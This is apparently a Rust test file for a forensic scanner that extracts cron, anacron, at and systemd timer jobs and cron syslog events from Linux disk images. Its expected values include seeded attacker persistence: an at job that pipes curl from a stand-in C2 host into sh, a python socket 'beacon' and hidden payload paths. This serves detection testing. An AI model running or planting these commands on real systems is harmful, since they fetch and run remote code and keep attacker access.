//! `Evidence::scan` on the Linux corpus images (corpus/build.sh: linux-debian is a bare
//! ext4 with a Debian layout, linux-rhel an MBR disk with a RHEL layout and a swap
//! partition). Expected values are what the build script wrote (or `at` queued).
use crate::common::*;
use foothold::{CronJobRecord, CronKind, Evidence, ScanSet};
use serde_json::json;

fn scan(name: &str) -> foothold::Report {
    Evidence::open(corpus_image(name))
        .expect("open")
        .scan(ScanSet::all())
}

fn find<'a>(r: &'a foothold::Report, path: &str, line: Option<u32>) -> &'a CronJobRecord {
    r.cron_jobs
        .iter()
        .find(|c| c.source.path == path && c.source.line == line)
        .unwrap_or_else(|| panic!("no job from {path}:{line:?}"))
}

#[test]
fn debian_layout_every_kind() {
    let r = scan("linux-debian");
    let count = |k: CronKind| r.cron_jobs.iter().filter(|c| c.job.kind == k).count();
    assert_eq!(count(CronKind::SystemCrontab), 6);
    assert_eq!(count(CronKind::Crontab), 4);
    assert_eq!(count(CronKind::Anacron), 3);
    assert_eq!(count(CronKind::PeriodicScript), 3);
    assert_eq!(count(CronKind::At), 1);
    assert_eq!(count(CronKind::SystemdTimer), 4);

    // /etc/crontab line 6, with the environment above it and full provenance.
    let c = find(&r, "/etc/crontab", Some(6));
    let v = serde_json::to_value(c).expect("json");
    let tagged = serde_json::to_value(foothold::Record::CronJob(c)).expect("json");
    assert_eq!(tagged["artifact"], "cron_job");
    assert_eq!(v["kind"], "system_crontab");
    assert_eq!(v["schedule"], "17 * * * *");
    assert_eq!(v["user"], "root");
    assert_eq!(v["command"], "cd / && run-parts --report /etc/cron.hourly");
    assert_eq!(
        v["environment"],
        json!({"SHELL": "/bin/sh", "PATH": "/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin"})
    );
    assert_eq!(v["decoded"]["minute"], json!([17]));
    assert_eq!(v["source"]["filesystem"], "ext4");
    assert_eq!(v["source"]["volume"], json!(null));
    assert!(v["source"]["entry"].as_u64().expect("inode") > 11);
    assert_eq!(v["source"]["uid"], 0);
    assert!(v["source"]["modified"]
        .as_str()
        .expect("mtime")
        .ends_with('Z'));

    // cron.d: dot-file and non-Debian names flagged, not hidden; symlinked file followed.
    assert_eq!(
        find(&r, "/etc/cron.d/.placeholder", Some(1)).job.flags,
        vec!["dot_file_ignored_by_cron"]
    );
    assert_eq!(
        find(&r, "/etc/cron.d/old.dpkg-dist", Some(1)).job.flags,
        vec!["name_ignored_by_debian_cron"]
    );
    assert_eq!(
        find(&r, "/etc/cron.d/linked", Some(1)).job.command,
        "/opt/cron/weekly-report.sh"
    );
    let php = find(&r, "/etc/cron.d/php", Some(2));
    assert_eq!(php.job.environment["MAILTO"], "", "quoted empty value");
    assert_eq!(
        php.job.decoded.as_ref().expect("decoded").minute,
        vec![9, 39]
    );

    // User crontab: user from the file name, crontab -e header skipped, spaces around =,
    // CRLF, names and ranges, % and \%, last line without newline.
    let reboot = find(&r, "/var/spool/cron/crontabs/alice", Some(5));
    assert_eq!(reboot.job.kind, CronKind::Crontab);
    assert_eq!(reboot.job.user.as_deref(), Some("alice"));
    assert_eq!(reboot.job.command, "/home/alice/.local/bin/agent --daemon");
    assert_eq!(reboot.job.environment["MAILTO"], "alice@example.invalid");
    let mail = find(&r, "/var/spool/cron/crontabs/alice", Some(6));
    assert_eq!(mail.job.schedule, "*/15 9-17 * jan-jun mon-fri");
    let d = mail.job.decoded.as_ref().expect("decoded");
    assert_eq!(
        (d.minute.clone(), d.hour.clone()),
        (vec![0, 15, 30, 45], (9..=17).collect::<Vec<u8>>())
    );
    assert_eq!(
        (d.month.clone(), d.day_of_week.clone()),
        (vec![1, 2, 3, 4, 5, 6], vec![1, 2, 3, 4, 5])
    );
    assert_eq!(mail.job.command, "/usr/bin/mail -s report boss");
    assert_eq!(mail.job.stdin.as_deref(), Some("Hello%20\nBye"));
    assert_eq!(
        find(&r, "/var/spool/cron/crontabs/alice", Some(7))
            .job
            .command,
        "/bin/echo last line without newline"
    );
    // An invalid line is an error record with file and line; the file's other job survives.
    let e = r
        .errors
        .iter()
        .find(|e| e.source.path == "/var/spool/cron/crontabs/root")
        .expect("error record");
    assert_eq!(e.source.line, Some(2));
    assert!(e.message.contains("broken line here"), "{}", e.message);
    assert_eq!(
        find(&r, "/var/spool/cron/crontabs/root", Some(1))
            .job
            .decoded
            .as_ref()
            .expect("d")
            .day_of_week,
        vec![0]
    );

    // anacron: period, delay, job id, environment, last run from /var/spool/anacron.
    let daily = find(&r, "/etc/anacrontab", Some(8));
    assert_eq!(
        (
            daily.job.schedule.as_str(),
            daily.job.job_id.as_deref(),
            daily.job.delay_minutes
        ),
        ("1 5", Some("cron.daily"), Some(5))
    );
    assert_eq!(daily.job.last_run.as_deref(), Some("2026-11-20"));
    assert_eq!(daily.job.environment["RANDOM_DELAY"], "30");
    assert_eq!(daily.job.environment["START_HOURS_RANGE"], "3-22");
    assert_eq!(find(&r, "/etc/anacrontab", Some(9)).job.last_run, None);

    // run-parts scripts.
    let lr = find(&r, "/etc/cron.daily/logrotate", None);
    assert_eq!(
        (lr.job.schedule.as_str(), lr.job.command.as_str()),
        ("cron.daily", "/usr/sbin/logrotate /etc/logrotate.conf")
    );
    assert!(lr.job.flags.is_empty());
    assert_eq!(
        find(&r, "/etc/cron.daily/update.sh", None).job.flags,
        vec!["ignored_by_run_parts"]
    );
    assert_eq!(
        find(&r, "/etc/cron.weekly/notexec", None).job.flags,
        vec!["not_executable"]
    );

    // at: queued by at(1) for 2030-01-01 12:00 UTC in queue b, as root.
    let at = r
        .cron_jobs
        .iter()
        .find(|c| c.job.kind == CronKind::At)
        .expect("at job");
    assert!(at.source.path.starts_with("/var/spool/cron/atjobs/b"));
    let info = at.job.at.as_ref().expect("at info");
    assert_eq!(
        (info.queue, info.run_at.as_str(), info.uid),
        ('b', "2030-01-01T12:00:00Z", Some(0))
    );
    assert_eq!(at.job.schedule, "2030-01-01T12:00:00Z");
    assert_eq!(at.job.user.as_deref(), Some("root"));
    assert_eq!(
        at.job.command,
        "curl -fsS http://c2.example.invalid/at | sh"
    );

    // systemd timers.
    let timer = |p: &str| find(&r, p, None);
    let refresh = timer("/etc/systemd/system/refresh.timer");
    assert_eq!(refresh.job.schedule, "OnBootSec=5min; OnUnitActiveSec=1h");
    assert_eq!(
        refresh.job.user.as_deref(),
        Some("www-data"),
        "User= of the service"
    );
    assert_eq!(refresh.job.command, "/var/www/.cache/upd --quiet");
    let ti = refresh.job.timer.as_ref().expect("timer");
    assert!(ti.enabled);
    assert_eq!(ti.randomized_delay.as_deref(), Some("10m"));
    assert_eq!(
        ti.unit_path.as_deref(),
        Some("/etc/systemd/system/refresh.service")
    );
    let weekly = timer("/etc/systemd/system/weekly.timer");
    assert_eq!(
        weekly.job.timer.as_ref().expect("t").unit,
        "payload.service"
    );
    assert_eq!(
        weekly.job.command, "/usr/local/bin/payload --flag",
        "continuation line joined"
    );
    assert_eq!(weekly.job.flags, vec!["timer_not_enabled"]);
    let apt = timer("/lib/systemd/system/apt-daily.timer");
    assert_eq!(
        apt.job.schedule, "OnCalendar=*-*-* 03:30",
        "drop-in resets and replaces OnCalendar"
    );
    let ti = apt.job.timer.as_ref().expect("t");
    assert_eq!(
        ti.drop_ins,
        vec!["/etc/systemd/system/apt-daily.timer.d/override.conf"]
    );
    assert!(ti.enabled && ti.persistent == Some(true) && ti.scope == "system");
    let sync = timer("/home/alice/.config/systemd/user/sync.timer");
    assert_eq!(sync.job.user.as_deref(), Some("alice"));
    assert_eq!(sync.job.timer.as_ref().expect("t").scope, "user");
    assert!(sync.job.timer.as_ref().expect("t").enabled);
    assert_eq!(r.errors.len(), 1, "{:?}", r.errors);
}

#[test]
fn rhel_layout_inside_mbr() {
    let ev = Evidence::open(corpus_image("linux-rhel")).expect("open");
    let fs: Vec<&str> = ev.volumes().iter().map(|v| v.filesystem.name()).collect();
    assert_eq!(fs, vec!["ext4", "swap"]);
    let r = ev.scan(ScanSet::all());
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert!(r.cron_jobs.iter().all(|c| c.source.volume == Some(1)));
    let bob = find(&r, "/var/spool/cron/bob", Some(1));
    assert_eq!(bob.job.user.as_deref(), Some("bob"));
    assert_eq!(
        bob.job.command,
        "python3 -c \"import socket,os;s=socket.socket()\" # beacon"
    );
    let hourly = find(&r, "/etc/cron.d/0hourly", Some(4));
    assert_eq!(hourly.job.environment["MAILTO"], "root");
    let monthly = find(&r, "/etc/anacrontab", Some(9));
    assert_eq!(
        (monthly.job.schedule.as_str(), monthly.job.delay_minutes),
        ("@monthly 45", Some(45))
    );
    assert_eq!(monthly.job.command, "nice run-parts /etc/cron.monthly");
    let at = r
        .cron_jobs
        .iter()
        .find(|c| c.job.kind == CronKind::At)
        .expect("at");
    assert!(at.source.path.starts_with("/var/spool/at/a"));
    assert_eq!(at.job.command, "/tmp/.hidden/run --once");
    let fstrim = find(&r, "/usr/lib/systemd/system/fstrim.timer", None);
    assert_eq!(fstrim.job.schedule, "OnCalendar=weekly");
    assert_eq!(fstrim.job.flags, vec!["timer_not_enabled"]);
    assert!(fstrim
        .job
        .command
        .starts_with("/usr/sbin/fstrim --listed-in"));
    assert_eq!(r.cron_jobs.len(), 8);
}

#[test]
fn host_directory_is_scanned_too() {
    let root = scratch().join("host-linux");
    let _ = std::fs::remove_dir_all(&root);
    std::fs::create_dir_all(root.join("etc/cron.d")).expect("mkdir");
    std::fs::write(root.join("etc/passwd"), "root:x:0:0::/root:/bin/sh\n").expect("w");
    std::fs::write(
        root.join("etc/cron.d/job"),
        "@weekly root /usr/local/bin/weekly\n",
    )
    .expect("w");
    let r = Evidence::open(&root)
        .expect("open dir")
        .scan(ScanSet::all());
    assert_eq!(r.cron_jobs.len(), 1);
    let j = &r.cron_jobs[0];
    assert_eq!(
        (j.job.schedule.as_str(), j.job.command.as_str()),
        ("@weekly", "/usr/local/bin/weekly")
    );
    assert_eq!(j.source.filesystem, "host");
    assert_eq!(j.source.path, "/etc/cron.d/job");
}

#[test]
fn windows_volumes_yield_no_cron_jobs() {
    let r = scan("ntfs-features");
    assert!(r.cron_jobs.is_empty());
    // Its one "task" file is a text placeholder: an error record, not silence.
    assert_eq!(r.errors.len(), 1);
    assert_eq!(
        r.errors[0].source.path,
        "/Windows/System32/Tasks/Microsoft/Windows/Defrag/ScheduledDefrag"
    );
}

#[test]
fn cron_activity_in_syslog_and_its_gzip_rotation() {
    let r = scan("linux-debian");
    let ev: Vec<_> = r
        .events
        .iter()
        .filter(|e| e.event.channel == "syslog")
        .collect();
    assert_eq!(
        ev.len(),
        5,
        "2 CMD lines in syslog, 3 edit lines in syslog.2.gz; sshd is not cron"
    );
    let first = &ev[0];
    assert_eq!(
        (first.event.provider.as_str(), first.event.user.as_deref()),
        ("CRON", Some("root"))
    );
    assert_eq!(
        first.event.command_line.as_deref(),
        Some("cd / && run-parts --report /etc/cron.hourly")
    );
    assert_eq!(
        first.event.timestamp.map(|t| t.to_string()).as_deref(),
        Some("2026-11-23T20:17:01.442211Z")
    );
    assert_eq!(
        (first.source.path.as_str(), first.source.line),
        ("/var/log/syslog", Some(1))
    );
    // A syslog line is not an EVTX record: no event ID, no record ID (its line is in
    // `source.line`), no Windows detail; the JSON says so by leaving them out.
    assert_eq!((first.event.event_id, first.event.record_id), (None, None));
    assert_eq!(first.event.detail, foothold::WindowsDetail::default());
    let json = serde_json::to_value(foothold::Record::Event(first)).expect("json");
    assert!(
        json.get("event_id").is_none()
            && json.get("record_id").is_none()
            && json.get("task_name").is_none(),
        "{json}"
    );
    let replace = ev
        .iter()
        .find(|e| e.event.data["action"] == "REPLACE")
        .expect("REPLACE");
    assert_eq!(replace.source.path, "/var/log/syslog.2.gz");
    assert_eq!(
        (
            replace.event.data["time"].as_str(),
            replace.event.data["detail"].as_str()
        ),
        ("Nov 20 03:14:40", "alice")
    );
    assert!(
        replace.event.timestamp.is_none(),
        "a syslog time without a year is kept as written, not guessed"
    );
    // Who installed alice's crontab: the REPLACE line names alice; the image (made by
    // mke2fs -d as root) has the spool file owned by root, which is said, not hidden.
    let tab = r
        .cron_jobs
        .iter()
        .find(|j| j.source.path == "/var/spool/cron/crontabs/alice")
        .expect("alice's crontab");
    let by = tab.created_by.as_ref().expect("created_by");
    assert_eq!(by.user.as_deref(), Some("alice"));
    assert_eq!(by.evidence[0].kind, "crontab_replace");
    assert_eq!(by.evidence[0].value, "alice at Nov 20 03:14:40");
    assert_eq!(by.flags, ["file_owner_not_crontab_owner"]);
    assert_eq!(
        by.when, tab.source.times.created,
        "no year in the syslog time: the file's"
    );
}
